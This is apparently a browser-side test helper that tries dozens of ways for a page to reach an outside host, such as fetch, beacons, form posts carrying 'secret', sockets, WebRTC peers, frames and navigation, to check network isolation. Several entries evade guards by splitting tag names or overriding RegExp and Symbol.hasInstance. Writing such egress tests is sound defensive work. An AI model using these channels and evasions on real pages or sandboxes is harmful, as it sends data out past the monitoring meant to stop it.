/// <reference lib="dom" />

/**
 * Runs in a desktop's page: every way we know by which a page could make the browser speak to someone. `outside` is a
 * host and port. One function without imports: it is sent to the browser as text.
 */
export async function tryWaysOut(outside: string, udpPort: number): Promise<Record<string, string>> {
  const address = `http://${outside}`
  const told: Record<string, string> = {}
  const element = (tag: string, attributes: Record<string, string>, where: HTMLElement = document.body) => {
    const made = document.createElement(tag)
    for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value)
    where.append(made)
    return made
  }
  const worker = (code: string) => new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })))
  const child = (attributes: Record<string, string>) =>
    (element('iframe', attributes) as HTMLIFrameElement).contentWindow as typeof globalThis & Window
  type Realm = Record<string, unknown>
  const peer = async (realm: Realm | typeof globalThis) => {
    const Peer = (realm as Realm)['RTCPeerConnection'] as typeof RTCPeerConnection
    const made = new Peer({
      iceServers: [
        { urls: `stun:127.0.0.1:${udpPort}` },
        { urls: `turn:${outside}?transport=tcp`, username: 'chosen', credential: 'bytes' },
      ],
    })
    made.createDataChannel('out')
    await made.setLocalDescription(await made.createOffer())
  }
  const ways: Record<string, () => unknown> = {
    'fetch': () => fetch(`${address}/fetch`),
    'fetch without an answer': () =>
      fetch(`${address}/no-cors`, { mode: 'no-cors', credentials: 'include', keepalive: true }),
    'post': () => fetch(`${address}/post`, { method: 'POST', mode: 'no-cors', body: 'secret' }),
    'request': () => {
      const request = new XMLHttpRequest()
      request.open('GET', `${address}/xhr`)
      request.send()
    },
    'beacon': () => navigator.sendBeacon(`${address}/beacon`, 'secret'),
    'image': () => (new Image().src = `${address}/image`),
    'image set': () => element('img', { srcset: `${address}/set 1x` }),
    'image of svg': () => (
      document.body.append(document.createElement('p')),
      (document.body.lastElementChild!.innerHTML = `<svg><image href="${address}/svg"/><use href="${address}/use#a"/></svg>`)
    ),
    'sound': () => new Audio(`${address}/audio`).play(),
    'video poster': () => element('video', { poster: `${address}/poster`, src: `${address}/video` }),
    'script': () => element('script', { src: `${address}/script` }),
    // As text: a test runner would replace `import()` with its own loader.
    'module': () => (Reflect.get(globalThis, 'eval') as (text: string) => unknown)(`import('${address}/module')`),
    'style sheet': () => element('link', { rel: 'stylesheet', href: `${address}/sheet` }, document.head),
    'style import': () => (element('style', {}).textContent = `@import "${address}/import";`),
    'style background': () =>
      (element('style', {}).textContent = `body { background-image: url("${address}/background") }`),
    'font': () => {
      element('style', {}).textContent =
        `@font-face { font-family: out; src: url("${address}/font") } #out { font-family: out }`
      element('p', { id: 'out' }).textContent = 'text'
      return document.fonts.load('12px out')
    },
    'icon': () => element('link', { rel: 'icon', href: `${address}/icon` }, document.head),
    'manifest': () => element('link', { rel: 'manifest', href: `${address}/manifest` }, document.head),
    'prefetch': () => element('link', { rel: 'prefetch', href: `${address}/prefetch` }, document.head),
    'prerender': () => element('link', { rel: 'prerender', href: `${address}/prerender` }, document.head),
    'preload': () => element('link', { rel: 'preload', as: 'fetch', href: `${address}/preload` }, document.head),
    'module preload': () => element('link', { rel: 'modulepreload', href: `${address}/module-preload` }, document.head),
    'speculation': () =>
      (element('script', { type: 'speculationrules' }).textContent = JSON.stringify({
        prefetch: [{ source: 'list', urls: [`${address}/speculation`], eagerness: 'immediate' }],
      })),
    'socket': () => new WebSocket(`ws://${outside}/socket`),
    'event source': () => new EventSource(`${address}/events`),
    'web transport': () => new WebTransport(`https://${outside}/transport`),
    'frame': () => element('iframe', { src: `${address}/frame` }),
    'object': () => element('object', { data: `${address}/object` }),
    'embed': () => element('embed', { src: `${address}/embed` }),
    'form': () => (element('form', { action: `${address}/form`, method: 'post' }) as HTMLFormElement).submit(),
    'form into a frame': () => {
      element('iframe', { name: 'sink' })
      ;(element('form', { action: `${address}/form-frame`, method: 'get', target: 'sink' }) as HTMLFormElement).submit()
    },
    'window': () => window.open(`${address}/window`)?.name,
    'link in a new tab': () => element('a', { href: `${address}/tab`, target: '_blank' }).click(),
    'link of the whole page': () => element('a', { href: `${address}/top`, target: '_top' }).click(),
    'ping of a link': () => element('a', { href: '#', ping: `${address}/ping` }).click(),
    'worker': () => new Worker(`${address}/worker`),
    'fetch in a worker': () => worker(`fetch('${address}/in-worker').catch(() => {})`),
    'script in a worker': () => worker(`importScripts('${address}/import-scripts')`),
    'socket in a worker': () => worker(`new WebSocket('ws://${outside}/worker-socket')`),
    'fetch in an empty frame': () => child({}).fetch(`${address}/in-empty-frame`),
    'fetch in a frame of text': () =>
      child({ srcdoc: `<script>fetch('${address}/in-srcdoc')</script><img src="${address}/srcdoc-image">` }),
    'frame from a blob': () =>
      child({
        src: URL.createObjectURL(new Blob([`<script>fetch('${address}/in-blob')</script>`], { type: 'text/html' })),
      }),
    'frame of data': () => child({ src: `data:text/html,<script>fetch('${address}/in-data')</script>` }),
    'preconnect': () => element('link', { rel: 'preconnect', href: address }, document.head),
    'preconnect of an element in its place': () => {
      const link = element('link', { rel: 'stylesheet' }, document.head) as HTMLLinkElement
      link.href = `${address}/late`
      link.rel = 'preconnect'
    },
    'refresh by an element': () =>
      element('meta', { 'http-equiv': 'refresh', 'content': `0;url=${address}/refresh-element` }, document.head),
    'page by javascript': () => void (location.href = `javascript:'<script>fetch("${address}/javascript")</script>'`),
    'peer connection': () => peer(globalThis),
    'peer connection of another name': () =>
      peer({ RTCPeerConnection: (globalThis as unknown as Realm)['webkitRTCPeerConnection'] }),
    'peer in an empty frame': () => peer(child({})),
    'peer in a frame of text': () => peer(child({ srcdoc: '<p>' })),
    'peer in a frame by its number': () => {
      element('iframe', {})
      return peer(window[0] as unknown as Realm)
    },
    'peer in a frame by HTML': () => {
      const box = element('div', {})
      box.innerHTML = '<iframe></iframe>'
      return peer((box.firstElementChild as HTMLIFrameElement).contentWindow as unknown as Realm)
    },
    'peer in a frame when it is loaded': () => {
      Object.assign(globalThis, { tryPeer: peer })
      element('div', {}).insertAdjacentHTML('beforeend', '<iframe onload="tryPeer(this.contentWindow)"></iframe>')
    },
    'peer in a frame of a template': () => {
      const template = document.createElement('template')
      template.innerHTML = '<iframe></iframe>'
      document.body.append(template.content.cloneNode(true))
      return peer(window[0] as unknown as Realm)
    },
    'peer in a frame of a parser': () => {
      const parsed = new DOMParser().parseFromString(
        '<x xmlns="http://www.w3.org/1999/xhtml"><y:iframe xmlns:y="http://www.w3.org/1999/xhtml"/></x>',
        'text/xml',
      )
      document.body.append(document.adoptNode(parsed.documentElement))
      return peer(window[0] as unknown as Realm)
    },
    'peer in a frame by an entity': () => {
      const text = '<!DOCTYPE x [<!ENTITY e "&#60;iframe xmlns=\'http://www.w3.org/1999/xhtml\'/&#62;">]><x>&e;</x>'
      document.body.append(document.adoptNode(new DOMParser().parseFromString(text, 'text/xml').documentElement))
      return peer(window[0] as unknown as Realm)
    },
    'peer in a frame in a shadow': () => {
      const root = element('div', {}).attachShadow({ mode: 'closed' })
      root.append(document.createElement('iframe'))
      return peer((root.firstElementChild as HTMLIFrameElement).contentWindow as unknown as Realm)
    },
    'peer in a frame that is written': () => {
      const { write } = document as unknown as { write(text: string): void }
      for (const piece of ['<ifr', 'ame></iframe>']) write.call(document, piece)
      return peer(window[0] as unknown as Realm)
    },
    'peer in an object': () =>
      peer((element('object', { data: 'about:blank' }) as HTMLObjectElement).contentWindow as unknown as Realm),
    'peer in a frame behind an exchanged guard': () => {
      const patterns = RegExp.prototype as { exec: unknown }
      const { exec } = patterns
      const { hasInstance } = Symbol
      const lists = Array.prototype as unknown as Record<symbol, unknown>
      const each = lists[Symbol.iterator]
      try {
        patterns.exec = () => null
        Object.defineProperty(Element, hasInstance, { value: () => false, configurable: true })
        lists[Symbol.iterator] = function* () {}
        const frame = document.createElement('iframe')
        document.body.appendChild(frame)
        return peer(frame.contentWindow as unknown as Realm)
      } finally {
        patterns.exec = exec
        lists[Symbol.iterator] = each
        Reflect.deleteProperty(Element, hasInstance)
      }
    },
    'service worker': () => navigator.serviceWorker.register(`${address}/sw`),
    'whole page': () => void (top!.location.href = `${address}/top-location`),
    'parent page': () => parent.location.replace(`${address}/parent-location`),
  }
  for (const [name, way] of Object.entries(ways)) {
    try {
      const done = await Promise.race([
        Promise.resolve(way()).then(() => 'no error'),
        new Promise((resolve) => setTimeout(() => resolve('no answer'), 300)),
      ])
      told[name] = String(done)
    } catch (error) {
      told[name] = (error as Error).name
    }
  }
  return told
}
